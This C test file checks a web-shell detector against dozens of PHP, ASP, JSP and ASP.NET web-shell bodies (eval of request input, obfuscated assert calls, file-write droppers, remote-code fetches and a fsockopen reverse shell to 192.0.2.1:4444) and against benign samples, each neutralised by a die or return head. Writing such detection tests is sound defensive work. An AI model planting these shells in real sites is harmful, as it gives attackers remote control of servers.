/* test_script_judge.c - structures of web shells, none of which could run: PHP dies, ASP ends the
 * response, JSP and ASP.NET return, in the first line. */
#include "scan/script_judge.h"
#include "testkit.h"

#include <stdio.h>

static const char *head_of(enum script_language language)
{
    static const char *const heads[SCRIPT_LANGUAGES] = {
        [SCRIPT_PHP] = "<?php die();\n",
        [SCRIPT_VBSCRIPT] = "<%@ Language=VBScript %><% Response.End\n",
        [SCRIPT_JSCRIPT] = "<%@ Page Language=\"Jscript\" %><% Response.End();\n",
        [SCRIPT_JAVA] = "<%@ page import=\"java.util.*\" %><% if (true) return;\n",
        [SCRIPT_CSHARP] = "<%@ Page Language=\"C#\" %><% Response.End();\n",
    };

    return heads[language];
}

static uint32_t points_of(struct script_judge *judge, enum script_language language,
                          const char *body)
{
    char text[4096];
    struct script_verdict verdict;
    int len = snprintf(text, sizeof(text), "%s%s%s", head_of(language), body,
                       language == SCRIPT_PHP ? "\n" : "\n%>\n");

    script_judge_file(judge, (struct str){text, (size_t)len}, &verdict);
    return verdict.points;
}

static void check_shells(enum script_language language, const char *const *bodies, size_t count)
{
    struct script_judge *judge = script_judge_new();

    for (size_t i = 0; i < count; i++) {
        uint32_t points = points_of(judge, language, bodies[i]);
        if (points < 5)
            printf("not found (%u points): %s\n", points, bodies[i]);
        CHECK(points >= 5);
    }
    script_judge_free(judge);
}

static void check_honest(enum script_language language, const char *const *bodies, size_t count)
{
    struct script_judge *judge = script_judge_new();

    for (size_t i = 0; i < count; i++) {
        uint32_t points = points_of(judge, language, bodies[i]);
        if (points >= 5)
            printf("%u points: %s\n", points, bodies[i]);
        CHECK(points < 5);
    }
    script_judge_free(judge);
}

TEST(php_shells)
{
    static const char *const bodies[] = {
        "@eval($_POST['a']);",
        "assert($_REQUEST[0]);",
        "system($_GET['c']);",
        "echo shell_exec($_GET['c'].' 2>&1');",
        "echo `$_GET[c]`;",
        "echo `{$_COOKIE['c']} 2>&1`;",
        "$c = $_POST['c']; passthru(\"$c\");",
        "if (isset($_REQUEST['c'])) { $c = ($_REQUEST['c']); system($c); exit; }",
        "eval(base64_decode($_POST['z']));",
        "eval(gzinflate(base64_decode('S0lRqEgtKtYvLinKzEvXTNVUqOZSAAA=')));",
        "eval(\"?>\".gzuncompress(base64_decode('eJxLTS1SSKosSVXIT0osAQAaQwQf')));",
        "$f = 'ass'.'ert'; $f($_POST['x']);",
        "$f = $_GET['f']; $f($_GET['a']);",
        "$_GET['a']($_GET['b']);",
        "($_=@$_GET[2]).@$_($_POST[1]);",
        "$k = str_rot13('nffreg'); $k($_POST['x']);",
        "$a = strrev('tressa'); @$a($_POST['p']);",
        "$a = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116); $a($_POST['p']);",
        "$a = base64_decode('YXNzZXJ0'); $a($_POST['p']);",
        ("$s = 'abcdefghijklmnopqrstuvwxyz_'; $f = $s[0].$s[18].$s[18].$s[4].$s[17].$s[19]; "
         "$f($_REQUEST['q']);"),
        "$a = str_replace('x','','axsxxsxert'); $a($_POST['p']);",
        "$_ = \"_\".(\"%0F\"^\"H\"); ${'_GE'.'T'}['a'](${'_GE'.'T'}['b']);",
        "\"\\x65\\x76\"; $f = \"\\x61\\x73\\x73\\x65\\x72\\x74\"; $f($_POST[1]);",
        "$f = create_function('', $_POST['c']); $f();",
        "preg_replace('/.*/e', $_POST['c'], '');",
        "preg_replace(\"/x/e\", \"ev\".\"al(\".$_REQUEST['c'].\")\", \"x\");",
        "mb_ereg_replace('.*', $_REQUEST['op'], '', 'e');",
        "array_map('assert', array($_POST['c']));",
        "array_map($_GET['f'], array($_GET['a']));",
        "call_user_func($_POST['f'], $_POST['a']);",
        "call_user_func_array('system', array($_GET['c']));",
        "$a = array($_POST['x'], 1); usort($a, 'assert');",
        "array_filter(array($_POST['c']), base64_decode('YXNzZXJ0'));",
        "register_shutdown_function('system', $_REQUEST['c']);",
        "$x = new ReflectionFunction('system'); $x->invoke($_GET['c']);",
    };

    check_shells(SCRIPT_PHP, bodies, ARRAY_COUNT(bodies));
}

TEST(php_shells_that_include_write_or_hide)
{
    static const char *const bodies[] = {
        "include($_GET['f']);",
        "include 'data:text/plain;base64,'.$_GET['f'];",
        "@include(\"php://input\");",
        "include $_FILES['f']['tmp_name'];",
        "file_put_contents($_POST['n'], $_POST['d']);",
        "$f = fopen($_POST['n'], 'w'); fwrite($f, $_POST['d']);",
        "fputs(fopen('x.php', 'w'), $_POST['d']);",
        "file_put_contents('a.php', file_get_contents('http://192.0.2.1/a.txt'));",
        "eval(file_get_contents('http://192.0.2.1/a.txt'));",
        "eval(file_get_contents('php://input'));",
        "$h = curl_init('http://192.0.2.1/'); eval('?>'.curl_exec($h));",
        "eval($_SERVER['HTTP_X_CODE']);",
        "$h = getallheaders(); system($h['X-Cmd']);",
        "extract($_POST); $a($b);",
        "extract($_REQUEST); @eval($code);",
        "foreach ($_POST as $k => $v) $$k = $v; eval($c);",
        "parse_str($_SERVER['QUERY_STRING']); system($cmd);",
        "function run($c) { return shell_exec($c); } echo run($_POST['c']);",
        ("class A { public $c; function __destruct() { eval($this->c); } } $a = new A; "
         "$a->c = $_POST['c'];"),
        "$p = proc_open($_GET['c'], array(), $pipes);",
        "$w = new COM('WScript.shell'); $e = $w->exec($_GET['c']);",
        "move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
        "if (copy($_FILES['f']['tmp_name'], $_POST['d'].$_FILES['f']['name'])) echo 'ok';",
        "passthru($cmd);",
        "eval(str_rot13($_POST['c']));",
        ("$key='k'; $d=file_get_contents('php://input'); for($i=0;$i<strlen($d);$i++) "
         "{ $d[$i]=$d[$i]^$key[$i+1&15]; } eval($d);"),
        "session_start(); $p = openssl_decrypt(file_get_contents('php://input'), 'AES128', "
        "$_SESSION['k']); $a = explode('|', $p); class C{public function __invoke($p) "
        "{eval($p.'');}} @call_user_func(new C(), $a[1]);",
        "$a = function($c) { eval($c); }; $a($_POST['x']);",
        "$z = $_POST['z']; $z = base64_decode($z); $z = gzinflate($z); @eval($z);",
        "ob_start('system'); echo $_GET['c']; ob_end_flush();",
        "$db = new SQLite3('x'); $db->createFunction('f', 'system'); $db->query($_GET['q']);",
        "ini_set('x', 1); define('F', 'ass'.'ert'); $f = F; $f($_POST['c']);",
        "$l = array('sys','tem'); $f = $l[0].$l[1]; $f($_GET['c']);",
        "$f = implode('', array('ex','ec')); $f($_GET['c']);",
        ("$_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`').('%14'^'`'); "
         "$__='_'.('%0D'^']').('%2F'^'`').('%0E'^']').('%09'^']'); $___=$$__; $_($___[_]);"),
        "$s = fsockopen('192.0.2.1', 4444); while ($l = fgets($s)) { fwrite($s, shell_exec($l)); }",
        ("error_reporting(0); $c = $_COOKIE; $k = 'x'; (count($c)==9) ? (($q = $c[12].$c[21]) && "
         "($q = $q($c[26])) && $q($c[30])) : $c;"),
        "$e = explode(' ', '97 115 115'); foreach ($e as $x) $o .= chr($x); $o($_POST['a']);",
    };

    check_shells(SCRIPT_PHP, bodies, ARRAY_COUNT(bodies));
}

TEST(honest_php)
{
    static const char *const bodies[] = {
        "echo htmlspecialchars($_GET['name']);",
        "include 'header.php'; include dirname(__FILE__).'/lib.php';",
        "$page = isset($_GET['p']) ? (int)$_GET['p'] : 1; system('ls -l page'.$page);",
        "$allowed = array('a' => 'x.php'); include $allowed[$_GET['p']];",
        "system('convert ' . escapeshellarg($_GET['f']));",
        "$out = shell_exec('uptime');",
        "usort($list, 'strcmp'); array_map('trim', $_POST['names']);",
        "$x = array_map('intval', $_GET['ids']); $cb = 'trim'; echo $cb($_GET['x']);",
        "if ($_GET['x'] == 'y') { eval('$z = 1;'); }",
        "$s = base64_decode($_POST['image']); file_put_contents('/var/cache/i.png', $s);",
        "call_user_func(array($this, 'run'), $_GET['a']);",
        "function f($x) { return eval($x); } f('1+1');",
        "preg_replace('/[^a-z]/i', '', $_GET['x']);",
        "class V { function show($t) { include $t; } } $v = new V; $v->show('a.tpl');",
        "assert(is_string($_GET['x']));",
        "exec('git rev-parse HEAD', $out);",
        "$mail = preg_match('/a/', $_POST['m']) ? $_POST['m'] : ''; mail($mail, 'x', 'y');",
        "$fn = 'handle_' . $action; if (function_exists($fn)) $fn($row);",
    };

    check_honest(SCRIPT_PHP, bodies, ARRAY_COUNT(bodies));
}

TEST(asp_shells)
{
    static const char *const bodies[] = {
        "eval request(\"c\")",
        "Execute(request(\"c\"))",
        "ExecuteGlobal request.form(\"c\")",
        "a = request(\"c\") : execute a",
        "If Request(\"c\")<>\"\" Then Execute(Request(\"c\"))",
        ("Dim c\nc = Request.QueryString(\"c\")\nSet o = Server.CreateObject(\"WScript.Shell\")\n"
         "o.Run c, 0, True"),
        "Set s = CreateObject(\"wscript.shell\")\nSet e = s.exec(\"cmd.exe /c \" & "
        "request(\"x\"))\n"
        "response.write e.stdout.readall",
        ("response.write CreateObject(\"wscript.shell\").exec(\"cmd /c \"&request(\"cmd\")).stdout."
         "readall"),
        "Set f = Server.CreateObject(\"Scripting.FileSystemObject\")\n"
        "Set t = f.CreateTextFile(Request(\"path\"), True)\nt.Write Request(\"text\")",
        ("set f=server.createobject(\"scri\"&\"pting.filesystemobject\")\n"
         "f.createtextfile(server.mappath(request(\"n\"))).write(request(\"d\"))"),
        "execute(chr(101)&chr(118)&request(\"a\"))",
        ("Function d(s)\nFor i = 1 To Len(s)\nd = d & Chr(Asc(Mid(s,i,1)) Xor 1)\nNext\n"
         "End Function\nExecute d(\"Fydbtuf!sdptftu)#b#(\")"),
        "Set x = server.createobject(\"msscriptcontrol.scriptcontrol\")\nx.language=\"vbscript\"\n"
        "x.addcode request(\"c\")",
        "x = Session(\"c\") : session(\"c\") = request(\"c\") : if x<>\"\" then execute x",
        ("With CreateObject(\"ADODB.Stream\")\n.Open\n.Write "
         "Request.BinaryRead(Request.TotalBytes)\n"
         ".SaveToFile Server.MapPath(Request.QueryString(\"f\")), 2\nEnd With"),
        "execute(unescape(\"%65%76\"&request(\"a\")))",
        ("Set sh = Server.CreateObject(\"Shell.Application\")\nsh.ShellExecute \"cmd.exe\", \"/c "
         "\" "
         "& "
         "Request.Form(\"cmd\")"),
        "dim a(5)\na(0)=request(\"x\")\neval(a(0))",
        "Sub go(c)\nExecuteGlobal c\nEnd Sub\ngo Request(\"v\")",
    };
    static const char *const scripts[] = {
        "eval(Request.Item[\"c\"],\"unsafe\");",
        "eval(Request(\"c\") + \"\");",
        "var c = Request.Form(\"c\").Item; eval(c);",
        "var s = new ActiveXObject(\"WScript.Shell\"); s.Run(Request(\"c\"));",
        "var p = String.fromCharCode(101); eval(p + Request[\"x\"]);",
        ("eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String("
         "Request.Item[\"z\"])), \"unsafe\");"),
    };

    check_shells(SCRIPT_VBSCRIPT, bodies, ARRAY_COUNT(bodies));
    check_shells(SCRIPT_JSCRIPT, scripts, ARRAY_COUNT(scripts));
}

TEST(honest_asp)
{
    static const char *const bodies[] = {
        "Response.Write Server.HTMLEncode(Request(\"name\"))",
        ("Set c = Server.CreateObject(\"ADODB.Connection\")\nc.Open \"dsn\"\n"
         "Set r = c.Execute(\"select * from t where id=\" & CInt(Request(\"id\")))"),
        "Server.Execute(\"menu.asp\")",
        ("Set f = Server.CreateObject(\"Scripting.FileSystemObject\")\n"
         "Set t = f.OpenTextFile(Server.MapPath(\"count.txt\"))\nn = t.ReadLine"),
        "If Request(\"a\") = \"1\" Then Response.Redirect \"b.asp\"",
        "conn.execute \"update t set n='\" & request(\"n\") & \"'\"",
    };

    check_honest(SCRIPT_VBSCRIPT, bodies, ARRAY_COUNT(bodies));
}

TEST(net_shells)
{
    static const char *const bodies[] = {
        "System.Diagnostics.Process.Start(Request[\"c\"]);",
        ("Process p = new Process(); p.StartInfo.FileName = \"cmd.exe\"; "
         "p.StartInfo.Arguments = \"/c \" + Request[\"c\"]; p.Start();"),
        "ProcessStartInfo psi = new ProcessStartInfo(); psi.FileName = \"cmd.exe\"; "
        "psi.Arguments = \"/c \" + arg.Text; Process.Start(psi);",
        "Assembly.Load(Convert.FromBase64String(Request[\"d\"])).CreateInstance(\"X\");",
        ("System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength))"
         ".CreateInstance(\"K\").Equals(this);"),
        "byte[] c = Request.BinaryRead(10); Assembly.Load(new System.Security.Cryptography."
        "RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length))"
        ".CreateInstance(\"U\").Equals(this);",
        "File.WriteAllText(Request[\"f\"], Request[\"d\"]);",
        ("System.IO.File.WriteAllBytes(Server.MapPath(Request.Form[\"f\"]), "
         "Convert.FromBase64String(Request.Form[\"d\"]));"),
        "Request.Files[0].SaveAs(Server.MapPath(Request.Files[0].FileName));",
        "StreamWriter w = File.CreateText(Request[\"f\"]); w.Write(Request[\"d\"]); w.Close();",
        ("} string Run(string arg) { ProcessStartInfo i = new ProcessStartInfo(\"cmd.exe\", \"/c "
         "\" "
         "+ "
         "arg); return Process.Start(i).StandardOutput.ReadToEnd(); } void P() { "
         "Response.Write(Run(Request.QueryString[\"c\"]));"),
    };

    check_shells(SCRIPT_CSHARP, bodies, ARRAY_COUNT(bodies));
}

TEST(jsp_shells)
{
    static const char *const bodies[] = {
        "Runtime.getRuntime().exec(request.getParameter(\"c\"));",
        "String c = request.getParameter(\"c\"); Process p = Runtime.getRuntime().exec(c);",
        ("String c = request.getParameter(\"c\"); Process p = Runtime.getRuntime().exec("
         "new String[]{\"/bin/sh\", \"-c\", c});"),
        "String[] a = {\"cmd.exe\", \"/c\", request.getParameter(\"c\")}; "
        "Runtime.getRuntime().exec(a);",
        "new ProcessBuilder(request.getParameter(\"c\").split(\" \")).start();",
        "ProcessBuilder b = new ProcessBuilder(); b.command(request.getHeader(\"c\")); b.start();",
        ("new java.io.FileOutputStream(request.getParameter(\"f\")).write("
         "request.getParameter(\"t\").getBytes());"),
        "java.io.FileOutputStream o = new java.io.FileOutputStream(application.getRealPath(\"/\") "
        "+ "
        "request.getParameter(\"f\")); o.write(request.getParameter(\"t\").getBytes());",
        ("} class U extends ClassLoader { U(ClassLoader c) { super(c); } public Class g(byte[] b) "
         "{ "
         "return super.defineClass(b, 0, b.length); } } {"),
        "Class c = Class.forName(\"java.lang.Run\" + \"time\"); c.getMethod(\"exec\", String.class)"
        ".invoke(c.getMethod(\"getRuntime\").invoke(null), request.getParameter(\"c\"));",
        ("new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval("
         "request.getParameter(\"c\"));"),
        "java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod(\"defineClass\", "
        "byte[].class, int.class, int.class); m.setAccessible(true); byte[] b = "
        "Base64.getDecoder().decode(request.getParameter(\"d\")); ((Class) m.invoke(l, b, 0, "
        "b.length)).newInstance();",
        ("new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(request.getParameter("
         "\"u\"))}).loadClass(\"X\").newInstance();"),
        "String k = \"x\"; javax.crypto.Cipher c = javax.crypto.Cipher.getInstance(\"AES\"); "
        "new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder()"
        ".decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);} "
        "class U extends ClassLoader { public Class g(byte[] b) { return super.defineClass(b, 0, "
        "b.length); } } {",
        ("} static String run(String c) throws Exception { Process p = "
         "Runtime.getRuntime().exec(c); "
         "return \"\"; } { out.print(run(request.getParameter(\"c\")));"),
        "\\u0052untime.getRuntime().\\u0065xec(request.getParameter(\"c\"));",
    };

    check_shells(SCRIPT_JAVA, bodies, ARRAY_COUNT(bodies));
}

TEST(honest_jsp_and_net)
{
    static const char *const pages[] = {
        "String n = request.getParameter(\"name\"); out.println(filter(n));",
        "session.setAttribute(\"a\", request.getParameter(\"a\"));",
        ("Connection c = DriverManager.getConnection(u); PreparedStatement s = "
         "c.prepareStatement(\"x\"); s.setString(1, request.getParameter(\"a\"));"),
        "response.getWriter().write(request.getParameter(\"x\"));",
        "Class.forName(\"com.mysql.jdbc.Driver\").newInstance();",
        "java.io.FileOutputStream o = new java.io.FileOutputStream(\"/tmp/log\"); o.write(b);",
    };
    static const char *const more[] = {
        "Response.Write(Server.HtmlEncode(Request[\"q\"]));",
        "Label1.Text = TextBox1.Text;",
        "Process.Start(\"notepad.exe\");",
        "XmlDocument d = new XmlDocument(); d.Load(Request.InputStream);",
        "object o = Activator.CreateInstance(Type.GetType(\"A.B\"));",
    };

    check_honest(SCRIPT_JAVA, pages, ARRAY_COUNT(pages));
    check_honest(SCRIPT_CSHARP, more, ARRAY_COUNT(more));
}
